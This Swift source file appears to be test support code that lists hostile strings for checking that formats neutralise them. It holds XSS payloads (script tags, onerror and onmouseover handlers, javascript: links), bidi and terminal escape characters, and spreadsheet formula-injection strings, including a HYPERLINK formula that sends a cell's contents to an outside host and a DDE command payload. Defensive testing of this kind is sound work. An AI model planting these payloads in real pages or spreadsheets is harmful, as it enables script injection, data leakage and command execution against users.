/// Texts that could do harm where a format forgets to make them inert.
package enum HostileText {
  /// Ends scripts, attributes and tags, names templates, mentions people, and reorders and hides.
  package static let name =
    #"</script><script>window.harmed=1</script><img src=x onerror="window.harmed=1">"#
    + "\"\u{301} onmouseover='window.harmed=1' '\u{301} {{title}} | [a](javascript:b) `c` *d* "
    + "@everyone #1 \u{202E}שלום\u{2066}\u{1B}[31m\u{7}\u{0}"

  /// What a spreadsheet would compute, send or run.
  package static let formula = #"=HYPERLINK("https://example.com/?leak="&A1,"open")"#

  /// The same with other beginnings.
  package static let formulas = [
    formula, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1", "\r=1", "\n=1", "＝1", "-inf",
    "+nan",
  ]

  /// A text from right to left, without any character that is dangerous by itself.
  package static let rightToLeft = "עוזר לחנויות =1+1 مساعد المتاجر"

  /// As many characters as nobody reads.
  package static let long = String(repeating: "Überlänge ", count: 1_000)

  /// One of each kind.
  package static let all = [name, formula, rightToLeft, long, name + long]
}
